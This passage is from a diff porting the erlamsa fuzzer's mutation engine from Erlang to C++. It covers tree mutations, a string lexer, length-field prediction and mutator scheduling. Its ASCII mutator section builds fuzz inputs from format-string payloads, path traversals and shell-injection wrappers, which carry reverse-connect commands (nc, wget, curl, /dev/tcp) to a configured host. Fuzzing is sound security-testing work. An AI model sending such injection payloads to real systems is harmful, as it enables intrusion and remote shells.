+    int nc = usual_delims(h);
+    if (nc < 0) { out.push_back(mk_byte(h)); pos++; continue; }
+    pos++;
+    std::vector<TermP> inner;
+    bool ok = grow(in, pos, (uint8_t)nc, inner);
+    if (!ok) { out.push_back(mk_byte(h)); out.insert(out.end(), inner.begin(), inner.end()); return false; }  // :817
+    inner.insert(inner.begin(), mk_byte(h));
+    out.push_back(mk_list(inner));
+  }
+}
+std::vector<TermP> partial_parse(const Bytes& in) {                           // :883-905
+  std::vector<TermP> out; size_t pos = 0;
+  while (pos < in.size()) {
+    uint8_t h = in[pos];
+    int cp = usual_delims(h);
+    if (cp < 0) { out.push_back(mk_byte(h)); pos++; continue; }
+    pos++;
+    std::vector<TermP> inner;
+    bool ok = grow(in, pos, (uint8_t)cp, inner);
+    if (!ok) { out.push_back(mk_byte(h)); out.insert(out.end(), inner.begin(), inner.end()); return out; }
+    inner.insert(inner.begin(), mk_byte(h));
+    out.push_back(mk_list(inner));
+  }
+  return out;
+}
+// sublists/2 :838-845 — result is a cons-list built by prepending; we return it in LIST order.
+void sublists_acc(const std::vector<TermP>& l, std::vector<TermP>& found_front) {
+  for (auto& h : l) if (h->is_list) { found_front.insert(found_front.begin(), h); sublists_acc(h->kids, found_front); }
+}
+std::vector<TermP> sublists(const std::vector<TermP>& l) { std::vector<TermP> f; sublists_acc(l, f); return f; }
+
+// edit_sublist/3 :858-869, flattened on the fly.  `op(list, idx, out)` emits the
+// flattening of Op([H|T]) where [H|T] = l[idx..].
+typedef std::function<void(const std::vector<TermP>&, size_t, Bytes&)> TreeOp;
+void edit_sublist(Ctx& c, const std::vector<TermP>& l, const TermP& sub, const TreeOp& op, Bytes& out) {
+  for (size_t i = 0; i < l.size(); i++) {
+    if (sub && term_eq(l[i], sub)) { op(l, i, out); return; }
+    if (l[i]->is_list) edit_sublist(c, l[i]->kids, sub, op, out); else out.push_back(l[i]->b);
+    c.check_cap(out.size());
+  }
+}
+int sed_tree_op(Ctx& c, BList& ll, int fn) {                                  // :917-936
+  if (binarish(ll[0])) return -1;
+  std::vector<TermP> lst = partial_parse(ll[0]);
+  std::vector<TermP> subs = sublists(lst);
+  TermP sub; if (!subs.empty()) sub = subs[c.rnd.rand_elem_idx(subs.size())];   // pick_sublist :847-854
+  Bytes out;
+  TreeOp op;
+  if (fn == M_TR2) op = [](const std::vector<TermP>& l, size_t i, Bytes& o) { term_flatten(l[i], o); terms_flatten(l, i, o); };  // [H|Node]
+  else op = [](const std::vector<TermP>& l, size_t i, Bytes& o) { terms_flatten(l, i + 1, o); };                               // T
+  edit_sublist(c, lst, sub, op, out);
+  ll[0] = out;
+  return 1;
+}
+void edit_sublists_map(const std::vector<TermP>& l, const TermP& a, const TermP& b, Bytes& out) {  // edit_sublists/2 :873-881
+  for (auto& h : l) {
+    if (h->is_list) {
+      // gb_trees: enter(A, ->B) then enter(B, ->A): if A == B the second wins (A -> A)
+      if (term_eq(h, b)) term_flatten(a, out);
+      else if (term_eq(h, a)) term_flatten(b, out);
+      else edit_sublists_map(h->kids, a, b, out);
+    } else out.push_back(h->b);
+  }
+}
+int sed_tree_swap(Ctx& c, BList& ll, int fn) {                                // :940-971
+  if (binarish(ll[0])) return -1;
+  std::vector<TermP> lst = partial_parse(ll[0]);
+  std::vector<TermP> subs = sublists(lst);
+  if (subs.size() < 2) return -1;
+  std::vector<size_t> idx = c.rnd.reservoir_sample_idx(subs.size(), 2);
+  Bytes out;
+  if (fn == M_TS1) {                                                          // sed_tree_swap_one :940-943
+    std::vector<TermP> two = {subs[idx[0]], subs[idx[1]]};
+    std::vector<TermP> p = c.rnd.random_permutation(two, [](const TermP& x, const TermP& y) { return term_cmp(x, y) < 0; });
+    TermP a = p[0], b = p[1];
+    edit_sublist(c, lst, a, [b](const std::vector<TermP>& l, size_t i, Bytes& o) { term_flatten(b, o); terms_flatten(l, i + 1, o); }, out);
+  } else {                                                                    // sed_tree_swap_two :948-952
+    edit_sublists_map(lst, subs[idx[0]], subs[idx[1]], out);
+  }
+  ll[0] = out;
+  return 1;
+}
+void repeat_path(Ctx& c, const TermP& parent, const TermP& child, uint64_t n, Bytes& out) {  // :975-985
+  if (n < 2) { term_flatten(parent, out); return; }
+  // (the 256 MB process-memory guard at :979-981 is BEAM-specific; the engine cap replaces it)
+  edit_sublist(c, parent->kids, child, [&](const std::vector<TermP>& l, size_t i, Bytes& o) {
+    repeat_path(c, parent, child, n - 1, o); terms_flatten(l, i + 1, o); c.check_cap(o.size()); }, out);
+}
+int sed_tree_stutter(Ctx& c, BList& ll) {                                     // :1005-1023
+  if (binarish(ll[0])) return -1;
+  std::vector<TermP> lst = partial_parse(ll[0]);
+  std::vector<TermP> subs = sublists(lst);
+  std::vector<TermP> rs = c.rnd.random_permutation(subs, [](const TermP& x, const TermP& y) { return term_cmp(x, y) < 0; });
+  TermP parent, child;
+  for (auto& h : rs) {                                                        // choose_stutr_nodes :994-1000
+    std::vector<TermP> s2 = sublists(h->kids);                                // choose_child :987-992
+    if (s2.empty()) continue;
+    child = s2[c.rnd.rand_elem_idx(s2.size())]; parent = h; break;
+  }
+  uint64_t nreps = c.rnd.rand_log_small(10);
+  if (!parent) return -1;
+  Bytes out;
+  edit_sublist(c, lst, child, [&](const std::vector<TermP>& l, size_t i, Bytes& o) {
+    repeat_path(c, parent, child, nreps, o); terms_flatten(l, i + 1, o); }, out);
+  ll[0] = out;
+  return 1;
+}
+
+// ---------------------------------------------------------------------------
+// erlamsa_strlex.erl
+// ---------------------------------------------------------------------------
+struct Chunk { int type; /*0 text,1 byte,2 delimited*/ Bytes bs; uint8_t l = 0, r = 0; };
+bool texty(uint8_t b) {                                                       // :45-52
+  if (b < 9) return false;
+  if (b > 126) return false;
+  if (b > 31) return true;
+  return b == 9 || b == 10 || b == 13;
+}
+bool texty_enough(const Bytes& s, size_t pos) {                               // :54-64 (MIN_TEXTY=6)
+  for (int n = 6; n > 0; n--, pos++) { if (pos >= s.size()) return true; if (!texty(s[pos])) return false; }
+  return true;
+}
+std::vector<Chunk> lex(const Bytes& s) {                                      // :75-142
+  std::vector<Chunk> chunks; size_t pos = 0; Bytes rawr;
+  auto flush_raw = [&]() { if (!rawr.empty()) { chunks.push_back({1, rawr}); rawr.clear(); } };
+  while (true) {
+    // string_lex_step
+    if (pos >= s.size()) { flush_raw(); return chunks; }
+    if (!texty_enough(s, pos)) { rawr.push_back(s[pos++]); continue; }
+    flush_raw();
+    // step_text(Lst, [], Chunks)
+    Bytes seen;
+    bool back_to_step = false;
+    while (!back_to_step) {
+      if (pos >= s.size()) { chunks.push_back({0, seen}); return chunks; }     // :101-102 (may be empty text!)
+      uint8_t h = s[pos];
+      if (h == 34 || h == 39) {                                               // :103-106 step_delimited(T, H, H, [], [H|Seenr])
+        size_t p2 = pos + 1; Bytes after; uint8_t endc = h; bool resolved = false;
+        while (!resolved) {
+          if (p2 >= s.size()) {                                               // :120-121 flush text AfterR ++ PrevR
+            Bytes t = seen; t.push_back(h); t.insert(t.end(), after.begin(), after.end());
+            chunks.push_back({0, t}); return chunks;
+          }
+          uint8_t x = s[p2];
+          if (x == endc) {                                                    // :123-129
+            if (!seen.empty()) chunks.push_back({0, seen});
+            Chunk d; d.type = 2; d.bs = after; d.l = h; d.r = endc; chunks.push_back(d);
+            pos = p2 + 1; resolved = true; back_to_step = true;
+          } else if (x == 92 && p2 + 1 >= s.size()) { after.push_back(92); p2++; }           // :131-132
+          else if (x == 92) {                                                 // :133-137
+            if (texty(s[p2 + 1])) { after.push_back(92); after.push_back(s[p2 + 1]); p2 += 2; }
+            else { after.push_back(92); p2++; }
+          } else if (texty(x)) { after.push_back(x); p2++; }                  // :139-140
+          else {                                                              // :141 flush text (AfterR ++ PrevR), resume lexing AT x
+            Bytes t = seen; t.push_back(h); t.insert(t.end(), after.begin(), after.end());
+            chunks.push_back({0, t}); pos = p2; resolved = true; back_to_step = true;
+          }
+        }
+      } else if (texty(h)) { seen.push_back(h); pos++; }                      // :109
+      else { chunks.push_back({0, seen}); back_to_step = true; }              // :111 (pos stays)
+    }
+  }
+}
+Bytes unlex(const std::vector<Chunk>& cs) {                                   // :146-155
+  Bytes o;
+  for (auto& c : cs) { if (c.type == 2) { o.push_back(c.l); o.insert(o.end(), c.bs.begin(), c.bs.end()); o.push_back(c.r); } else o.insert(o.end(), c.bs.begin(), c.bs.end()); }
+  return o;
+}
+
+// ---------------------------------------------------------------------------
+// ASCII mutators (erlamsa_mutations.erl:430-651)
+// ---------------------------------------------------------------------------
+bool stringy(const std::vector<Chunk>& cs) { for (auto& c : cs) if (c.type != 1) return true; return false; }   // :438-442
+const std::vector<Bytes>& silly_strings() {                                   // :444-446
+  static std::vector<Bytes> v = {{'%', 'n'}, {'%', 'n'}, {'%', 's'}, {'%', 'd'}, {'%', 'p'}, {'%', '#', 'x'}, {0},
+                                 {'a', 'a', 'a', 'a', '%', 'd', '%', 'n'}, {10}, {13}, {9}, {8}};
+  return v;
+}
+const std::vector<Bytes>& delimeters() {                                      // :448-451
+  static std::vector<Bytes> v = {{'\''}, {'"'}, {'\''}, {'"'}, {'\''}, {'"'}, {'&'}, {':'}, {'|'}, {';'}, {'\\'}, {10}, {13}, {9}, {' '},
+                                 {'`'}, {0}, {']'}, {'['}, {'>'}, {'<'}};
+  return v;
+}
+std::string fmt2(const std::string& f, const std::string& a, const std::string& b) {
+  // io_lib:format with ~s / ~p directives only (two args)
+  std::string o; int k = 0;
+  for (size_t i = 0; i < f.size(); i++) {
+    if (f[i] == '~' && i + 1 < f.size() && (f[i + 1] == 's' || f[i + 1] == 'p')) { o += (k++ == 0 ? a : b); i++; }
+    else o.push_back(f[i]);
+  }
+  return o;
+}
+Bytes buildrevconnect(Ctx& c) {                                               // :514-519
+  static const char* inj[] = {"';~s;'", "\";~s;\"", ";~s;", "|~s#", "^ ~s ^", "& ~s &", "&& ~s &&", "|| ~s ||", "%0D~s%0D", "`~s`"};   // :453-459
+  static const char* rev[] = {"calc.exe & notepad.exe ~s ~p ", "nc ~s ~p", "wget http://~s:~p", "curl ~s ~p",
+                              "exec 3<>/dev/tcp/~s/~p", "sleep 100000 # ~s ~p ", "echo>/tmp/erlamsa.~s.~p"};                       // :461-466
+  std::string i = inj[c.rnd.rand_elem_idx(10)];
+  std::string r = rev[c.rnd.rand_elem_idx(7)];
+  std::string inner = fmt2(r, c.cfg->ssrf_host, std::to_string(c.cfg->ssrf_port));
+  std::string s = fmt2(i, inner, "");
+  return Bytes(s.begin(), s.end());
+}
+Bytes random_badness(Ctx& c) {                                                // :468-476
+  uint64_t n = c.rnd.rand(20) + 1; Bytes out;
+  for (uint64_t i = 0; i < n; i++) { const Bytes& x = silly_strings()[c.rnd.rand_elem_idx(silly_strings().size())]; out.insert(out.begin(), x.begin(), x.end()); }  // X ++ Out
+  return out;
+}
+uint64_t rand_as_count(Ctx& c) {                                              // :485-499
+  static const uint64_t t[] = {127, 128, 255, 256, 16383, 16384, 32767, 32768, 65535, 65536};
+  uint64_t ty = c.rnd.rand(11);
+  if (ty < 10) return t[ty];
+  return c.rnd.rand(1024);
+}
+enum TextMuta { T_INSERT_BADNESS, T_REPLACE_BADNESS, T_INSERT_TRAVERSAL, T_INSERT_AAAS, T_INSERT_NULL, T_INSERT_DELIMETER, T_INSERT_SHELLINJ };
+Bytes insert_traversal(Ctx& c, uint8_t symb) {                                // :506-508
+  uint64_t n = c.rnd.erand(10); Bytes o = {symb};
+  for (uint64_t i = 0; i < n; i++) { o.push_back('.'); o.push_back('.'); o.push_back(symb); }
+  return o;
+}
+Bytes ins_before(const Bytes& l, uint64_t p, const Bytes& what) {  // applynth(P, Lst, fun(E,R) -> What ++ [E|R])
+  Bytes o(l.begin(), l.begin() + (p - 1)); o.insert(o.end(), what.begin(), what.end()); o.insert(o.end(), l.begin() + (p - 1), l.end()); return o;
+}
+Bytes mutate_text(Ctx& c, int tm, const Bytes& lst) {                         // :521-563
+  switch (tm) {
+    case T_INSERT_BADNESS: {
+      if (lst.empty()) return random_badness(c);
+      uint64_t p = c.rnd.erand(lst.size()); Bytes bad = random_badness(c); return ins_before(lst, p, bad);
+    }
+    case T_REPLACE_BADNESS: {
+      if (lst.empty()) return random_badness(c);
+      uint64_t p = c.rnd.erand(lst.size()); Bytes bad = random_badness(c);
+      // sublist(Lst, P-1) ++ overwrite(nthtail(P, Lst), Bad)   :479-483,533
+      // overwrite/2 walks its FIRST argument (the old tail) and only falls back to the
+      // second (Bad) when the tail is exhausted: element P is dropped, the tail is kept,
+      // and the part of Bad longer than the tail is appended.
+      Bytes o(lst.begin(), lst.begin() + (p - 1));
+      Bytes tail(lst.begin() + p, lst.end());
+      o.insert(o.end(), tail.begin(), tail.end());
+      if (bad.size() > tail.size()) o.insert(o.end(), bad.begin() + tail.size(), bad.end());
+      return o;
+    }
+    case T_INSERT_AAAS: {
+      if (lst.empty()) { uint64_t n = rand_as_count(c); return Bytes(n, 97); }
+      uint64_t n = rand_as_count(c); uint64_t p = c.rnd.erand(lst.size());
+      Bytes o(lst.begin(), lst.begin() + (p - 1)); o.insert(o.end(), n, 97); o.insert(o.end(), lst.begin() + p, lst.end()); return o;
+    }
+    case T_INSERT_TRAVERSAL: {
+      if (lst.empty()) return insert_traversal(c, '/');
+      uint64_t p = c.rnd.erand(lst.size());
+      uint8_t sy = c.rnd.rand_elem_idx(2) == 0 ? '\\' : '/';
+      Bytes tr = insert_traversal(c, sy);
+      Bytes o(lst.begin(), lst.begin() + (p - 1)); o.insert(o.end(), tr.begin(), tr.end()); o.insert(o.end(), lst.begin() + p, lst.end()); return o;
+    }
+    case T_INSERT_NULL: { Bytes o = lst; o.push_back(0); return o; }
+    case T_INSERT_DELIMETER: {
+      if (lst.empty()) return delimeters()[c.rnd.rand_elem_idx(delimeters().size())];   // [rand_elem(..)] flattens to the string
+      uint64_t p = c.rnd.erand(lst.size());
+      const Bytes& bad = delimeters()[c.rnd.rand_elem_idx(delimeters().size())];
+      return ins_before(lst, p, bad);
+    }
+    case T_INSERT_SHELLINJ: {
+      if (lst.empty()) return delimeters()[c.rnd.rand_elem_idx(delimeters().size())];
+      uint64_t p = c.rnd.erand(lst.size());
+      Bytes inj = buildrevconnect(c);
+      return ins_before(lst, p, inj);
+    }
+  }
+  return lst;
+}
+void string_generic_mutate(Ctx& c, std::vector<Chunk>& cs, const std::vector<int>& tms) {   // :571-583
+  size_t l = cs.size();
+  for (size_t r = 0; !((double)r > (double)l / 4.0); r++) {
+    uint64_t p = c.rnd.erand(l);
+    Chunk& el = cs[p - 1];
+    if (el.type == 1) continue;
+    int tm = tms[c.rnd.rand_elem_idx(tms.size())];                            // mutate_text_data :510-512
+    el.bs = mutate_text(c, tm, el.bs);
+    return;
+  }
+}
+void string_delimeter_mutate(Ctx& c, std::vector<Chunk>& cs) {                // :626-644
+  size_t l = cs.size();
+  for (size_t r = 0; !((double)r > (double)l / 4.0); r++) {
+    uint64_t p = c.rnd.erand(l);
+    Chunk& el = cs[p - 1];
+    if (el.type == 1) continue;
+    if (el.type == 0) {
+      static const int opts[] = {T_INSERT_DELIMETER, T_INSERT_DELIMETER, T_INSERT_DELIMETER, T_INSERT_SHELLINJ};
+      int tm = opts[c.rnd.rand_elem_idx(4)];
+      c.rnd.rand_elem_idx(1);                                                 // mutate_text_data's rand_elem over the 1-element list
+      el.bs = mutate_text(c, tm, el.bs);
+    } else {
+      uint64_t dr = c.rnd.rand(4);                                            // drop_delimeter :615-622
+      Chunk n; n.type = 0;
+      if (dr == 0) { n.bs.push_back(el.l); n.bs.insert(n.bs.end(), el.bs.begin(), el.bs.end()); el = n; }
+      else if (dr == 1) { n.bs = el.bs; n.bs.push_back(el.r); el = n; }
+      else if (dr == 2) { n.bs = el.bs; el = n; }
+    }
+    return;
+  }
+}
+int ascii_mutator(Ctx& c, BList& ll, int fn) {                                // construct_ascii_mutator :585-602
+  std::vector<Chunk> cs = lex(ll[0]);
+  if (!stringy(cs)) return -1;
+  if (fn == M_AB) string_generic_mutate(c, cs, {T_INSERT_BADNESS, T_REPLACE_BADNESS, T_INSERT_TRAVERSAL, T_INSERT_AAAS, T_INSERT_NULL});
+  else string_delimeter_mutate(c, cs);
+  int d = c.rnd.rand_delta();
+  ll[0] = unlex(cs);
+  return d;
+}
+
+// ---------------------------------------------------------------------------
+// erlamsa_field_predict.erl
+// ---------------------------------------------------------------------------
+struct Sizer { int size; bool big; uint64_t len; size_t a, b; };
+void basic_u8len(const Bytes& bin, int64_t a, int64_t b, std::vector<Sizer>& out) {   // :50-58
+  if (!(a < b && b > 0 && a < (int64_t)bin.size())) return;
+  uint64_t len = bin[a];
+  if ((int64_t)len == b - a - 1 && len > 2) out.push_back({8, true, len, (size_t)a, (size_t)b});
+}
+void simple_u8len(const Bytes& bin, int64_t a, std::vector<Sizer>& out) {     // :60-64
+  for (int x = 0; x <= 8; x++) basic_u8len(bin, a, (int64_t)bin.size() - x, out);
+}
+void basic_len(const Bytes& bin, int64_t a, int64_t b, std::vector<Sizer>& out) {     // :66-79 (first matching clause only)
+  if (!(a < b && b > 0 && a < (int64_t)bin.size())) return;
+  size_t n = bin.size() - a;
+  auto rd = [&](int bytes, bool big) -> uint64_t { uint64_t v = 0; for (int i = 0; i < bytes; i++) v = big ? (v << 8) | bin[a + i] : v | ((uint64_t)bin[a + i] << (8 * i)); return v; };
+  const int szs[3] = {2, 4, 8};
+  for (int pass = 0; pass < 2; pass++) for (int k = 0; k < 3; k++) {
+    int w = szs[k]; if (n < (size_t)w) continue;
+    uint64_t len = rd(w, pass == 0);
+    int64_t want = b - a - w;
+    if (want >= 0 && len == (uint64_t)want && len > 2) { out.push_back({w * 8, pass == 0, len, (size_t)a, (size_t)b}); return; }
+  }
+}
+void simple_len(const Bytes& bin, int64_t a, int64_t b, std::vector<Sizer>& out) {    // :81-89
+  basic_len(bin, a, b, out); basic_len(bin, a, b - 1, out); basic_len(bin, a, b - 2, out); basic_len(bin, a, b - 4, out); basic_len(bin, a, b - 8, out);
+}
+std::vector<Sizer> get_possible_simple_lens(Ctx& c, const Bytes& bin) {       // :91-105
+  std::vector<Sizer> res;
+  int64_t len = (int64_t)bin.size();
+  if (len > 10) {
+    int64_t sublen = std::min<int64_t>(len / 5, SIZER_MAX_FIRST_BYTES);
+    std::vector<int64_t> varb;
+    for (int64_t i = 0; i <= sublen; i++) varb.push_back((int64_t)c.rnd.rand_range(sublen, len));
+    // AllRanges = [{A,Len} || A <- FirstSeq] ++ [{X,Y} || X <- FirstSeq, Y <- VarBSeq];
+    // BigLens = foldl(prepend) => reversed range order; flatten([SmallLens | BigLens]).
+    for (int64_t a = 0; a <= sublen; a++) simple_u8len(bin, a, res);
+    for (int64_t x = sublen; x >= 0; x--) for (size_t yi = varb.size(); yi-- > 0;) simple_len(bin, x, varb[yi], res);
+    for (int64_t a = sublen; a >= 0; a--) simple_len(bin, a, len, res);
+  } else {
+    for (int64_t x = 0; x <= 3; x++) { simple_len(bin, x, len, res); simple_u8len(bin, x, res); }
+  }
+  return res;
+}
+struct Csum { bool crc; size_t plen, blen; };
+std::vector<Csum> get_possible_csum_locations(const Bytes& bin) {             // :131-161
+  std::vector<Csum> out; if (bin.empty()) return out;
+  size_t len = bin.size();
+  size_t maxp = std::min<size_t>((size_t)std::trunc(2.0 * (double)len / 3.0), 30 * PREAMBLE_MAX_BYTES);
+  for (size_t a = 0; a <= maxp; a++) {                                        // has_xor8_checksum :134-141
+    if (len < a + 1) throw ErlCrash("badmatch: has_xor8_checksum");
+    uint8_t x = 0; for (size_t i = a; i < len - 1; i++) x ^= bin[i];
+    if (x == bin[len - 1]) out.push_back({false, a, len - a - 1});
+  }
+  for (size_t a = 0; a <= maxp; a++) {                                        // has_crc32_checksum :143-151
+    if (len < a + 4) continue;
+    uint32_t cc = otp::crc32(bin.data() + a, len - a - 4);
+    uint32_t st = ((uint32_t)bin[len - 4] << 24) | ((uint32_t)bin[len - 3] << 16) | ((uint32_t)bin[len - 2] << 8) | bin[len - 1];
+    if (cc == st) out.push_back({true, a, len - a - 4});
+  }
+  return out;
+}
+void put_int(Bytes& o, uint64_t v, int bits, bool big) {  // <<V:Bits/big|little>> two's-complement truncation
+  int n = bits / 8;
+  for (int i = 0; i < n; i++) { int sh = big ? 8 * (n - 1 - i) : 8 * i; o.push_back(sh >= 64 ? 0 : (uint8_t)(v >> sh)); }
+}
+
+// length_predict / mutate_length (erlamsa_mutations.erl:1107-1143)
+int length_predict(Ctx& c, BList& ll) {
+  Bytes bin = ll[0];
+  std::vector<Sizer> cands = get_possible_simple_lens(c, bin);
+  int64_t ei = c.rnd.rand_elem_idx(cands.size());
+  if (ei < 0) return -2;                                                      // mutate_length(Binary, []) :1112
+  const Sizer& e = cands[ei];
+  int nb = e.size / 8;
+  // extract_blob :112-117  (badmatch -> crash if the binary is too short)
+  if (bin.size() < e.a + nb + e.len) throw ErlCrash("badmatch: extract_blob");
+  Bytes h(bin.begin(), bin.begin() + e.a), blob(bin.begin() + e.a + nb, bin.begin() + e.a + nb + e.len), rest(bin.begin() + e.a + nb + e.len, bin.end());
+  Bytes rb = c.rnd.random_block(nb);                                          // <<TmpNewLen:Size>> = random_block(Size/8)
+  // TmpNewLen*2 may exceed 64 bits; only min(1000000, .) matters
+  bool huge = false; uint64_t tmp = 0;
+  for (int i = 0; i < nb; i++) { if (tmp >> 56) huge = true; tmp = (tmp << 8) | rb[i]; }
+  uint64_t newlen = (huge || tmp >= ABSMAX_BINARY_BLOCK) ? ABSMAX_BINARY_BLOCK : std::min<uint64_t>(ABSMAX_BINARY_BLOCK, tmp * 2);
+  uint64_t k = c.rnd.rand(7);
+  Bytes out = h;
+  switch (k) {
+    case 0: put_int(out, 0, e.size, true); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rest.begin(), rest.end()); break;
+    case 1: put_int(out, ~(uint64_t)0, e.size, true); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rest.begin(), rest.end()); break;
+    case 2: {
+      // fast_pseudorandom_block(NewLen) erlamsa_rnd.erl:155-160
+      Bytes rnd;
+      if (newlen < ABSMAXHALF_BINARY_BLOCK) rnd = c.rnd.random_block(newlen);
+      else {
+        Bytes rb2 = c.rnd.random_block(ABSMAXHALF_BINARY_BLOCK);
+        uint64_t z = newlen - ABSMAXHALF_BINARY_BLOCK;            // <<42:Z8L, Rnd/binary>>: Z BITS wide
+        if (z % 8 != 0) throw ErlCrash("badarg: bitstring in binary construction");
+        Bytes pad(z / 8, 0); if (!pad.empty()) { pad.back() = 42; }  // 42 in the low bits of a z-bit big-endian field
+        rnd = pad; rnd.insert(rnd.end(), rb2.begin(), rb2.end());
+      }
+      put_int(out, e.len, e.size, e.big); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rnd.begin(), rnd.end());
+      out.insert(out.end(), rest.begin(), rest.end()); break;
+    }
+    case 3: put_int(out, newlen, e.size, e.big); out.insert(out.end(), rest.begin(), rest.end()); break;
+    default: put_int(out, newlen, e.size, e.big); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rest.begin(), rest.end()); break;
+  }
+  ll[0] = out;
+  return +1;
+}
+
+int nomutation(Ctx&, BList&) { return -1; }                                   // :1104-1105
+
+// zip_path_traversal :1149-1163 — zip:foldl fails with {error, bad_eocd} unless an
+// end-of-central-directory record can be located; the success path needs OTP's
+// zip+zlib writers and is not restated (EO_UNSUPPORTED).
+bool has_zip_eocd(const Bytes& b) {
+  if (b.size() < 22) return false;
+  size_t lo = b.size() > 22 + 65535 ? b.size() - 22 - 65535 : 0;
+  for (size_t i = b.size() - 22 + 1; i-- > lo;) if (b[i] == 0x50 && b[i + 1] == 0x4b && b[i + 2] == 0x05 && b[i + 3] == 0x06) return true;
+  return false;
+}
+int zip_path_traversal(Ctx&, BList& ll) {
+  if (has_zip_eocd(ll[0])) throw Unsupported();
+  return -1;
+}
+
+// fwd decls for mutators that recurse into the scheduler
+int base64_mutator(Ctx& c, BList& ll);
+int uri_mutator(Ctx& c, BList& ll, Muta& m);
+int sgml_mutate(Ctx& c, BList& ll);
+int json_mutate(Ctx& c, BList& ll);
+
+// ===========================================================================
+// Scheduler: mutations/1, mutators_mutator, weighted_permutations, mux_fuzzers
+// ===========================================================================
+// mutations/1 :1290-1332 — evaluating the table draws snand's and srnd's MaskFun
+// (rand_elem over 3 and over 1 elements), in that order.
+std::vector<Muta> mutations_table(Rnd& rnd) {
+  std::vector<Muta> t;
+  int snand_mask = (int)rnd.rand_elem_idx(3);
+  rnd.rand_elem_idx(1);
+  for (int i = 0; i < M_COUNT; i++) { Muta m; m.score = 10.0; m.pri = MUTA_TABLE[i].pri; m.name = i; m.fn = i; m.mask_fun = (i == M_SNAND) ? snand_mask : 3; t.push_back(m); }
+  return t;
+}
+// mutators_mutator/2 :1391-1395 — `mutas` in the order given; result prepends.
+std::vector<Muta> mutators_mutator(Rnd& rnd, const std::vector<Muta>& mutas) {
+  std::vector<Muta> out;
+  for (auto m : mutas) { uint64_t n = rnd.rand(10); m.score = (double)std::max<uint64_t>(2, n); out.insert(out.begin(), m); }
+  return out;
+}
+// make_mutator/2 :1370-1383
+std::vector<Muta> make_mutator(Rnd& rnd, const std::vector<std::pair<int, int>>& selected) {
+  std::vector<Muta> table = mutations_table(rnd);
+  std::vector<Muta> mutas;  // foldl prepend => reverse table order
+  for (auto& m : table) for (auto& s : selected) if (s.first == m.name) { Muta x = m; x.pri = s.second; mutas.insert(mutas.begin(), x); break; }
+  return mutators_mutator(rnd, mutas);
+}
+double adjust_priority(double pri, int delta) {                               // :1238-1242
+  if (delta == 0) return pri;
+  return std::max(2.0, std::min(10.0, pri + delta));
+}
+
+int run_muta_fn(Ctx& c, BList& ll, Muta& m) {
+  switch (m.fn) {
+    case M_BD: case M_BEI: case M_BED: case M_BF: case M_BI: case M_BER: case M_BR: return sed_byte_muta(c, ll, m.fn);
+    case M_SP: case M_SR: case M_SD: case M_SNAND: case M_SRND: return sed_bytes_muta(c, ll, m);
+    case M_UW: return sed_utf8_widen(c, ll);
+    case M_UI: return sed_utf8_insert(c, ll);
+    case M_NUM: return sed_num(c, ll);
+    case M_LD: case M_LDS: case M_LR2: case M_LRI: case M_LR: case M_LS: case M_LP: return line_muta(c, ll, m.fn);
+    case M_LIS: case M_LRS: return st_line_muta(c, ll, m);
+    case M_FT: return sed_fuse_this(c, ll);
+    case M_FN: return sed_fuse_next(c, ll);
+    case M_FO: return sed_fuse_old(c, ll, m);
+    case M_TR2: case M_TD: return sed_tree_op(c, ll, m.fn);
+    case M_TS1: case M_TS2: return sed_tree_swap(c, ll, m.fn);
+    case M_TR: return sed_tree_stutter(c, ll);
+    case M_AB: case M_AD: return ascii_mutator(c, ll, m.fn);
+    case M_LEN: return length_predict(c, ll);
+    case M_B64: return base64_mutator(c, ll);
+    case M_URI: return uri_mutator(c, ll, m);
+    case M_ZIP: return zip_path_traversal(c, ll);
+    case M_SGM: return sgml_mutate(c, ll);
+    case M_JS: return json_mutate(c, ll);
+    case M_NIL: return nomutation(c, ll);
+  }
+  throw ErlCrash("undef mutator");
+}
+
+// mux_fuzzers/1 + mux_fuzzers_loop/4 :1256-1280.  Mutates `fs` (the closure's
+// list) and `ll` in place.
+void mux_fuzzers(Ctx& c, std::vector<Muta>& fs, BList& ll) {
+  if (ll.size() == 1 && ll[0].empty()) return;                                // L([<<>>], Meta)
+  if (ll.empty()) throw ErlCrash("mux_fuzzers([]) -> <<>> (non-list result)");
+  // weighted_permutations/1 :1244-1250
+  std::vector<std::pair<uint64_t, Muta>> keyed;
+  for (auto& m : fs) keyed.push_back({c.rnd.rand((uint64_t)std::trunc(m.score * m.pri)), m});
+  std::stable_sort(keyed.begin(), keyed.end(), [](const std::pair<uint64_t, Muta>& a, const std::pair<uint64_t, Muta>& b) { return a.first > b.first; });
+  std::vector<Muta> sorted; for (auto& k : keyed) sorted.push_back(k.second);
+  std::vector<Muta> out;  // cons-list, front = most recent
+  size_t i = 0;
+  for (; i < sorted.size(); i++) {
+    if (ll[0].size() > ABSMAX_BINARY_BLOCK) {                                 // :1269-1270 (drops sorted[i])
+      if (c.trace) c.t("skipped_big", "");
+      std::vector<Muta> nf = out; nf.insert(nf.end(), sorted.begin() + i + 1, sorted.end()); fs.swap(nf); return;
+    }
+    Muta node = sorted[i];
+    BList mll = ll;
+    int delta = run_muta_fn(c, mll, node);
+    node.score = adjust_priority(node.score, delta);
+    out.insert(out.begin(), node);
+    if (!mll.empty() && mll[0] == ll[0]) { c.t("failed", MUTA_TABLE[node.name].name); continue; }   // :1278
+    c.t("used", MUTA_TABLE[node.name].name);
+    std::vector<Muta> nf = out; nf.insert(nf.end(), sorted.begin() + i + 1, sorted.end());
+    fs.swap(nf); ll.swap(mll);
+    size_t tot = 0; for (auto& b : ll) tot += b.size(); c.check_cap(tot + c.out.size());
+    return;
+  }
+  fs.swap(out);                                                               // :1268 all failed
+}
+
+// ---------------------------------------------------------------------------
+// base64_mutator :658-690, uri_mutator :696-784
+// ---------------------------------------------------------------------------
+int base64_mutator(Ctx& c, BList& ll) {
+  std::vector<Chunk> cs = lex(ll[0]);
+  std::vector<Muta> table = mutations_table(c.rnd);                           // mutas_list(mutations([])) :661
+  int dacc = -1;
+  for (auto& ch : cs) {
+    if (ch.type != 0 || ch.bs.size() <= 6) continue;
+    Bytes dec;
+    if (!otp::base64_decode(ch.bs, &dec)) continue;                           // error:badarg / function_clause caught :677-684
+    // `try base64:decode(A) of Bin -> Body catch ...`: only decode errors are caught;
+    // a crash inside Body (the nested mutation) kills the worker.
+    int d = c.rnd.rand_delta();
